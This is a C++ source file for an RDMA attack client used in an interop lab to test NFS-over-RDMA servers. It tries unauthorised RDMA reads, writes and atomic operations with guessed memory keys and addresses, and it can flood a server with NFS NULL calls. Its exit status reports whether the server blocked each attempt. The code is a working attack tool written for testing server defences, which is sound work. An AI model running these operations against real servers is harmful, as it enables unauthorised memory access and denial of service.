// causeway-verbs-attacker: a client on rdma-core that reaches for memory which nobody gave it, or for more than it was granted.
// One connection, and one operation, or so many NULL calls of NFS without a receive for an answer:
//
//   causeway-verbs-attacker SERVER PORT write|read|swap|add KEY ADDRESS
//   causeway-verbs-attacker SERVER PORT flood CALLS
//
// KEY and ADDRESS are guesses (0x for hexadecimal). Prints what the device said of the operation, or how many calls were taken,
// and how the connection ended. Exit status: 0 the server ended the connection, and nothing was read or changed as far as this
// side can tell, nor were all calls taken; 1 the server let it happen; 2 there was no attack: wrong usage, no connection, or a
// device that does not know the operation.
//
// The queue pair is brought up by hand: librdmacm would grant itself no READs from a server that answers none, and an attacker
// does not ask. For the interop lab, whose guests have rdma-core.
#include <endian.h>
#include <infiniband/verbs.h>
#include <poll.h>
#include <rdma/rdma_cma.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <optional>
#include <string>
#include <string_view>

namespace {

using Clock = std::chrono::steady_clock;

constexpr int kNotTried = 2;
constexpr uint8_t kMark = 0x5a;  // what our memory holds before a READ
constexpr auto kWait = std::chrono::seconds(15);
constexpr auto kFloodWait = std::chrono::seconds(90);  // answers that nobody takes have 30 s
constexpr uint32_t kSendsMax = 64;
// RPC-over-RDMA version 1 (RFC 8166 4): a message without chunks, which asks for 32 credits. In it a NULL call of NFS version 3.
constexpr uint32_t kXid = 0xffff'ffff;  // stands for the call's own
constexpr std::array<uint32_t, 17> kNullCall = {kXid, 1, 32, 0, 0, 0, 0, kXid, 0, 2, 100003, 3, 0, 0, 0, 0, 0};

struct Attack {
  std::string server;
  std::string port;
  ibv_wr_opcode opcode = IBV_WR_RDMA_WRITE;
  uint32_t key = 0;
  uint64_t address = 0;
  uint32_t calls = 0;  // of a flood; 0: it is none
};

int not_tried(const char* what) {
  std::fprintf(stderr, "causeway-verbs-attacker: %s: %s\n", what, std::strerror(errno));
  return kNotTried;
}

std::optional<Attack> parse(int argc, char** argv) {
  if (argc != 5 && argc != 6) {
    return std::nullopt;
  }
  Attack attack;
  attack.server = argv[1];
  attack.port = argv[2];
  const std::string_view operation = argv[3];
  if (operation == "flood") {
    attack.calls = static_cast<uint32_t>(std::strtoul(argv[4], nullptr, 0));
    return argc == 5 && attack.calls > 0 ? std::optional(attack) : std::nullopt;
  }
  if (argc != 6) {
    return std::nullopt;
  }
  if (operation == "write") {
    attack.opcode = IBV_WR_RDMA_WRITE;
  } else if (operation == "read") {
    attack.opcode = IBV_WR_RDMA_READ;
  } else if (operation == "swap") {
    attack.opcode = IBV_WR_ATOMIC_CMP_AND_SWP;
  } else if (operation == "add") {
    attack.opcode = IBV_WR_ATOMIC_FETCH_AND_ADD;
  } else {
    return std::nullopt;
  }
  attack.key = static_cast<uint32_t>(std::strtoul(argv[4], nullptr, 0));
  attack.address = std::strtoull(argv[5], nullptr, 0);
  return attack;
}

class Attacker {
 public:
  explicit Attacker(const Attack& attack) : attack_(attack) {}
  ~Attacker() {
    if (qp_ != nullptr) {
      ibv_destroy_qp(qp_);
    }
    if (region_ != nullptr) {
      ibv_dereg_mr(region_);
    }
    if (completions_ != nullptr) {
      ibv_destroy_cq(completions_);
    }
    if (domain_ != nullptr) {
      ibv_dealloc_pd(domain_);
    }
    if (id_ != nullptr) {
      rdma_destroy_id(id_);
    }
    if (channel_ != nullptr) {
      rdma_destroy_event_channel(channel_);
    }
  }
  Attacker(const Attacker&) = delete;
  Attacker& operator=(const Attacker&) = delete;

  int run() {
    if (!resolve() || !make_queue_pair() || !connect()) {
      return not_tried(step_);
    }
    if (attack_.calls > 0) {
      return flood();
    }
    if (!post()) {
      return not_tried("the operation is not posted");
    }
    return watch();
  }

 private:
  bool await(rdma_cm_event_type wanted, Clock::time_point end, rdma_cm_event_type other = RDMA_CM_EVENT_DISCONNECTED) {
    while (Clock::now() < end) {
      pollfd waits{channel_->fd, POLLIN, 0};
      const auto left = std::chrono::ceil<std::chrono::milliseconds>(end - Clock::now());
      if (::poll(&waits, 1, static_cast<int>(std::clamp<int64_t>(left.count(), 0, 100))) <= 0) {
        continue;
      }
      rdma_cm_event* event = nullptr;
      if (rdma_get_cm_event(channel_, &event) != 0) {
        return false;
      }
      event_ = event->event;
      rdma_ack_cm_event(event);
      if (event_ == wanted || event_ == other) {
        return true;
      }
      errno = ECONNREFUSED;
      return false;
    }
    errno = ETIMEDOUT;
    return false;
  }

  bool resolve() {
    step_ = "no way to the server";
    rdma_addrinfo hints{};
    hints.ai_port_space = RDMA_PS_TCP;
    rdma_addrinfo* found = nullptr;
    channel_ = rdma_create_event_channel();
    if (channel_ == nullptr || rdma_create_id(channel_, &id_, nullptr, RDMA_PS_TCP) != 0 ||
        rdma_getaddrinfo(attack_.server.c_str(), attack_.port.c_str(), &hints, &found) != 0) {
      return false;
    }
    const bool asked = rdma_resolve_addr(id_, nullptr, found->ai_dst_addr, 2000) == 0;
    rdma_freeaddrinfo(found);
    return asked && await(RDMA_CM_EVENT_ADDR_RESOLVED, Clock::now() + kWait) && rdma_resolve_route(id_, 2000) == 0 &&
           await(RDMA_CM_EVENT_ROUTE_RESOLVED, Clock::now() + kWait);
  }

  bool make_queue_pair() {
    step_ = "no queue pair";
    domain_ = ibv_alloc_pd(id_->verbs);
    completions_ = ibv_create_cq(id_->verbs, 2 * kSendsMax, nullptr, nullptr, 0);
    if (domain_ == nullptr || completions_ == nullptr) {
      return false;
    }
    ibv_qp_init_attr init{};
    init.send_cq = completions_;
    init.recv_cq = completions_;
    init.cap = {kSendsMax, 4, 1, 1, 0};
    init.qp_type = IBV_QPT_RC;
    init.sq_sig_all = 1;
    qp_ = ibv_create_qp(domain_, &init);
    memory_ = untouched();
    region_ = ibv_reg_mr(domain_, memory_.data(), memory_.size(), IBV_ACCESS_LOCAL_WRITE | IBV_ACCESS_REMOTE_WRITE);
    return qp_ != nullptr && region_ != nullptr && move_to(IBV_QPS_INIT);
  }

  bool move_to(ibv_qp_state state) {
    ibv_qp_attr attributes{};
    attributes.qp_state = state;
    int mask = 0;
    if (rdma_init_qp_attr(id_, &attributes, &mask) != 0) {
      return false;
    }
    if (state == IBV_QPS_RTS) {
      attributes.max_rd_atomic = 1;  // whatever the server has granted
    }
    return ibv_modify_qp(qp_, &attributes, mask) == 0;
  }

  bool connect() {
    step_ = "no connection";
    rdma_conn_param parameters{};
    parameters.initiator_depth = 1;
    parameters.retry_count = 7;
    parameters.rnr_retry_count = 7;
    parameters.qp_num = qp_->qp_num;
    if (rdma_connect(id_, &parameters) != 0 ||
        !await(RDMA_CM_EVENT_CONNECT_RESPONSE, Clock::now() + kWait, RDMA_CM_EVENT_ESTABLISHED)) {
      return false;
    }
    if (event_ == RDMA_CM_EVENT_ESTABLISHED) {
      return true;  // iWARP: the kernel has done the rest
    }
    return move_to(IBV_QPS_RTR) && move_to(IBV_QPS_RTS) && rdma_establish(id_) == 0;
  }

  bool post() {
    ibv_sge memory{reinterpret_cast<uint64_t>(memory_.data()), sizeof(uint64_t), region_->lkey};
    ibv_send_wr work{};
    work.sg_list = &memory;
    work.num_sge = 1;
    work.opcode = attack_.opcode;
    if (attack_.opcode == IBV_WR_RDMA_WRITE || attack_.opcode == IBV_WR_RDMA_READ) {
      work.wr.rdma.rkey = attack_.key;
      work.wr.rdma.remote_addr = attack_.address;
    } else {
      work.wr.atomic.rkey = attack_.key;
      work.wr.atomic.remote_addr = attack_.address;
      work.wr.atomic.compare_add = 1;
    }
    ibv_send_wr* bad = nullptr;
    errno = std::abs(ibv_post_send(qp_, &work, &bad));  // some drivers say it with a minus
    return errno == 0;
  }

  // With an XID of its own; none of the sends before that are under way lies in the same place.
  bool post_call(uint32_t xid) {
    uint8_t* const place = memory_.data() + size_t{xid % kSendsMax} * sizeof(kNullCall);
    for (size_t i = 0; i < kNullCall.size(); ++i) {
      const uint32_t word = htobe32(kNullCall[i] == kXid ? xid : kNullCall[i]);
      std::memcpy(place + i * sizeof(word), &word, sizeof(word));
    }
    ibv_sge memory{reinterpret_cast<uint64_t>(place), sizeof(kNullCall), region_->lkey};
    ibv_send_wr work{};
    work.sg_list = &memory;
    work.num_sge = 1;
    work.opcode = IBV_WR_SEND;
    ibv_send_wr* bad = nullptr;
    return ibv_post_send(qp_, &work, &bad) == 0;
  }

  // As many calls on their way as the queue has room for, until the server ends it.
  int flood() {
    const auto end = Clock::now() + kFloodWait;
    uint32_t posted = 0;
    uint32_t done = 0;
    uint32_t taken = 0;
    bool ended = false;
    while (!ended && taken < attack_.calls && Clock::now() < end) {
      const uint32_t taken_before = taken;
      while (posted < attack_.calls && posted - done < kSendsMax && post_call(posted)) {
        ++posted;
      }
      ibv_wc completion{};
      while (ibv_poll_cq(completions_, 1, &completion) > 0) {
        ++done;
        taken += completion.status == IBV_WC_SUCCESS ? 1 : 0;
      }
      // Only when nothing was taken: a wait in each round would slow the flood down.
      ended = taken == taken_before && await(RDMA_CM_EVENT_DISCONNECTED, Clock::now() + std::chrono::milliseconds(1));
    }
    std::printf("%u calls taken; connection: %s\n", taken, ended ? "ended by the server" : "still there");
    return ended && taken < attack_.calls ? 0 : 1;
  }

  // A WRITE over iWARP is done for this side when TCP has it: how the connection ended is what counts.
  int watch() {
    const auto end = Clock::now() + kWait;
    std::string said = "nothing";
    bool succeeded = false;
    const bool ended = await(RDMA_CM_EVENT_DISCONNECTED, end);
    ibv_wc completion{};
    while (ibv_poll_cq(completions_, 1, &completion) > 0) {
      said = ibv_wc_status_str(completion.status);
      succeeded = completion.status == IBV_WC_SUCCESS;
    }
    const bool reads = attack_.opcode != IBV_WR_RDMA_WRITE;
    const bool changed = memory_ != untouched();
    std::printf("device: %s; connection: %s; our memory: %s\n", said.c_str(), ended ? "ended by the server" : "still there",
                changed && reads ? "changed" : "as before");
    return ended && !(reads && (succeeded || changed)) ? 0 : 1;
  }

  using Memory = std::array<uint8_t, kSendsMax * sizeof(kNullCall)>;
  static Memory untouched() {
    Memory memory{};
    memory.fill(kMark);
    return memory;
  }

  Attack attack_;
  const char* step_ = "";
  rdma_event_channel* channel_ = nullptr;
  rdma_cm_id* id_ = nullptr;
  ibv_pd* domain_ = nullptr;
  ibv_cq* completions_ = nullptr;
  ibv_qp* qp_ = nullptr;
  ibv_mr* region_ = nullptr;
  rdma_cm_event_type event_ = RDMA_CM_EVENT_ADDR_ERROR;
  Memory memory_{};
};

}  // namespace

int main(int argc, char** argv) {
  const std::optional<Attack> attack = parse(argc, argv);
  if (!attack) {
    std::fputs(
        "usage: causeway-verbs-attacker SERVER PORT write|read|swap|add KEY ADDRESS\n"
        "       causeway-verbs-attacker SERVER PORT flood CALLS\n",
        stderr);
    return kNotTried;
  }
  return Attacker(*attack).run();
}
